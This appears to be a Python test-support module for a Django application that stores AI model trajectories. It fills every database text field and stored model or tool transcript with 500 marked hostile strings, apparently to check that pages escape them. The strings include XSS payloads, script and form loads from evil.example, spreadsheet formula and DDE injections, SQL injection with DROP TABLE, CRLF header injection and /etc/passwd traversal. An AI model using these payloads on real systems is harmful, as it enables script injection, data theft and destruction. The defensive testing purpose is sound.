"""500 hostile strings, always the same, and how they get into every text field of the world.

Each bears a mark, `f<field>n<number>x`, by which it is found again on a page. Fields are filled
past the forms, so that no check of a form stands between a string and the page that shows it.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any

import msgspec
import zstandard
from django.apps import apps
from django.db import models, transaction

from hone.core.ordered_json import OrderedJSONField
from jobs.engine.insight.credit import PARTS
from jobs.models import Trajectory, run_folder
from jobs.selectors.bodies import trajectory_body

EVIL = "https://evil.example"
DOES = (
    "<script>alert('{m}')</script>",
    "<img src=x onerror=alert('{m}')>",
    "<svg onload=alert('{m}')>",
    f'<img src="{EVIL}/{{m}}.png">',
    f"<script src={EVIL}/{{m}}.js></script>",
    f"<link rel=stylesheet href={EVIL}/{{m}}.css>",
    f"<style>@import '{EVIL}/{{m}}';body{{{{background:url({EVIL}/{{m}})}}}}</style>",
    f"<iframe src={EVIL}/{{m}}></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>{m}",
    f"<base href={EVIL}/{{m}}/>",
    f"<form action={EVIL}/{{m}}><button autofocus>OK</button></form>",
    f"<meta http-equiv=refresh content='0;url={EVIL}/{{m}}'>",
    "<details open ontoggle=alert('{m}')><summary>x</summary></details>",
    "<input autofocus onfocus=alert('{m}')>",
    "<body onload=alert('{m}')>",
    "<math><mtext></mtext><script>alert('{m}')</script></math>",
    "<a href=javascript:alert('{m}')>here</a>",
    "<div style='position:fixed;inset:0;z-index:99;background:red'>{m}</div>",
    f"<object data={EVIL}/{{m}}></object>",
    "<template><img src=x onerror=alert('{m}')></template>",
    "<marquee onstart=alert('{m}')>x</marquee>",
    "<svg><animate onbegin=alert('{m}') attributeName=x dur=1s /></svg>",
    "<button hx-get='/jobs/' hx-trigger='load' hx-on:load=alert('{m}')>x</button>",
    "<div hx-vals='js:alert(`{m}`)' hx-get=/jobs/ hx-trigger=load></div>",
    f"<video src={EVIL}/{{m}} onerror=alert(1)></video>",
    "javascript:alert('{m}')",
    "data:text/html,<script>alert('{m}')</script>",
    f"![picture]({EVIL}/{{m}}.png) [link](javascript:alert(1))",
    "{{{{ 7 | add:'{m}' }}}} {{% include 'x' %}} ${{alert('{m}')}} #{{7*7}} <%= 7*7 %>",
    '=HYPERLINK("https://evil.example/{m}","x")',
    "+cmd|' /C calc'!A0 {m}",
    "@SUM(1+1)*cmd|'{m}'!A0",
    "\u202egnp.{m}\u202c \u2066isolated\u2069",
    "zero\u200bwidth\u200djoin\ufeff{m}\u2060",
    "\u00adsoft\u034fgrapheme\u3164filler\u115f{m}",
    "tags\U000e0041\U000e0042 {m} line\u2028paragraph\u2029end",
    "\x1b[31mred\x1b[0m\x07{m}\x08\x7f\x85",
    "مرحبا بالعالم {m} שלום עולם",
    "👩‍👩‍👧‍👦🏳️‍🌈 {m} e\u0301\u0316\u0317" + "\u0301" * 30,
    "{m}" + "W" * 300,
    "%3Cscript%3Ealert('{m}')%3C/script%3E &lt;script&gt; &#60;img&#62; &amp;",
    "' OR 1=1; DROP TABLE jobs_job; -- {m}",
    "\r\nSet-Cookie: a={m}\r\nLocation: https://evil.example",
    "../../../../etc/passwd {m} ..\\..\\x",
    "__proto__ constructor {m} toString",
    "NaN Infinity 1e999 null undefined {m} -0",
    "\ud7ff\ue000\uffff {m} \U0010ffff\U0001d54f",
    "﷽ﷺ {m} ＜script＞ ‹img› ʼʻ",
    "/* {m} */ }} body {{ display:none }}",
    "]]>{m}<![CDATA[<script>alert(1)</script>]]><?xml version='1.0'?>",
)
"""What a string tries; `{m}` is its mark."""
FROM = (
    "{}",
    '">{}',
    "'>{}",
    "--></title>{}",
    "</textarea></select>{}",
    "</script></style>{}",
    '"onmouseover=alert(1) autofocus onfocus=alert(2) x="{}',
    "</td></tr></table></div></main>{}",
    '\\u003cimg\\u003e\\"`${{}}`{}'.replace("${{}}", "$"),
    "<!--{}<![endif]",
)
"""What it tries to get out of first."""
STARTS = 48
COUNT = len(DOES) * len(FROM)
MARK = re.compile(r"f(\d+)n(\d+)x")
FIXED_FIELDS = {
    "sha256", "list_sha256", "manifest_sha256", "bodies", "path", "storage_key", "password",
    "email", "key", "origin_address", "origin", "sealed", "headers_sealed", "key_sealed", "code",
    "error_code", "action", "uid", "group", "split", "stop", "packed_flags", "case", "folder",
    "process_start", "host", "holder", "mime_type", "purpose", "order", "url", "base_url",
    "chosen", "rows", "progress", "packed_tools", "prefix", "scopes",
}  # fmt: skip
"""Fields that nobody outside writes: hashes, paths, codes; and addresses, which are parsed."""
FIXED_KEYS = {
    "type", "operation", "state", "kind", "mark", "key", "sha256", "at", "status", "code", "role",
    "id", "url", "input", "parser", "columns", "stop", "stops", "seconds", "settings", "requested",
    "engine",
}  # fmt: skip
"""The same within JSON."""
ONE_LINE = {"BaseModel.name"}
"""Fields that are part of an address; their services refuse a second line."""
OPEN_KEYS = {"parts", "metadata", "keys", "tools", "properties", "recipe"}
"""Objects whose keys are written by people and models."""


def hostile(number: int, place: int) -> str:
    """String `number` of `COUNT`, marked as that of field `place`."""
    does, start = DOES[number % len(DOES)], FROM[number // len(DOES)]
    return start.format(does.format(m=f"f{place}n{number}x"))


@dataclass
class Poison:
    """Fills the fields of the world, in so many rounds that each has held every string."""

    rounds: int
    fields: list[str] = field(default_factory=list)
    chunks: dict[tuple[str, int], str] = field(default_factory=dict)

    def chunk(self, name: str, turn: int) -> str:
        """The strings that a field holds in a turn: as many as are due in a round, beginning with
        another one in each turn, as a page may show the beginning alone."""
        turn %= STARTS
        if (name, turn) not in self.chunks:
            if name not in self.fields:
                self.fields.append(name)
            place = self.fields.index(name)
            due = range(turn % self.rounds, COUNT, self.rounds)
            first = turn * len(due) // STARTS
            strings = [hostile(n, place) for n in (*due[first:], *due[:first])]
            self.chunks[name, turn] = "\n".join(strings)
        return self.chunks[name, turn]

    def pour(self, turn: int) -> None:
        """Into every text field of every row."""
        with transaction.atomic():
            for model in apps.get_models():
                if model._meta.app_label not in {"sessions", "contenttypes", "auth"}:
                    self._fill(model, turn)

    def _fill(self, model: Any, turn: int) -> None:
        open_fields = list(texts(model))
        for place, row in enumerate(model._default_manager.order_by("pk")):
            changes = {
                each.name: self._value(f"{model.__name__}.{each.name}", each, row, turn, place)
                for each in open_fields
            }
            if changes:
                model._default_manager.filter(pk=row.pk).update(**changes)

    def _value(
        self, name: str, each: models.Field[Any, Any], row: Any, turn: int, place: int
    ) -> Any:
        if isinstance(each, (models.JSONField, OrderedJSONField)):
            return self._within(name, getattr(row, each.name), turn + place)
        # Names are told apart within an organisation.
        value = f"{self.chunk(name, turn + place)}\n{place}"
        return value.replace("\n", " ") if name in ONE_LINE else value

    def _within(self, name: str, value: Any, turn: int, key: str = "") -> Any:
        if isinstance(value, dict):
            is_open = key in OPEN_KEYS or not key and name.endswith(("metadata", "parts"))
            # The engine's own parts of an advantage bear the same word as a grader's.
            rename = is_open and not value.keys() <= set(PARTS)
            return {
                (f"{place} {self.chunk(name, turn)}" if rename else own): (
                    each if own in FIXED_KEYS else self._within(name, each, turn, str(own))
                )
                for place, (own, each) in enumerate(value.items())
            }
        if isinstance(value, list):
            return [self._within(name, each, turn, "in a list") for each in value]
        return self.chunk(name, turn) if isinstance(value, str) else value

    def pour_body(self, trajectory: Trajectory, turn: int) -> None:
        """Into what the model, its tools and the grader said in a trajectory."""
        body = trajectory_body(trajectory)
        for each in body.turns:
            each.text = self.chunk("Turn.text", turn)
            each.reasoning = self.chunk("Turn.reasoning", turn)
            each.content = self.chunk("Turn.content", turn) if each.content else ""
            for call in each.calls:
                call.name = self.chunk("ToolCall.name", turn)
                call.arguments = self.chunk("ToolCall.arguments", turn)
                call.output = self.chunk("ToolCall.output", turn)
                call.error = self.chunk("ToolCall.error", turn)
        body.cause = self.chunk("Trajectory body.cause", turn)
        body.grading = {**body.grading, "stdout": self.chunk("Grading.stdout", turn)}
        body.parts = {self.chunk("Part.name", turn): 0.5}
        frame = zstandard.ZstdCompressor().compress(msgspec.json.encode(body))
        name = f"trajectories/hostile-{trajectory.pk}-{turn}.zst"
        (run_folder(trajectory.run_id) / name).write_bytes(frame)
        Trajectory.objects.filter(pk=trajectory.pk).update(bodies=name, offset=0, length=len(frame))


def texts(model: Any) -> Iterator[models.Field[Any, Any]]:
    """The fields of a model that people, models or tools can fill with text."""
    for each in model._meta.concrete_fields:
        text = isinstance(each, (models.CharField, models.TextField, models.JSONField))
        if not text or each.primary_key or each.choices or each.name in FIXED_FIELDS:
            continue
        yield each
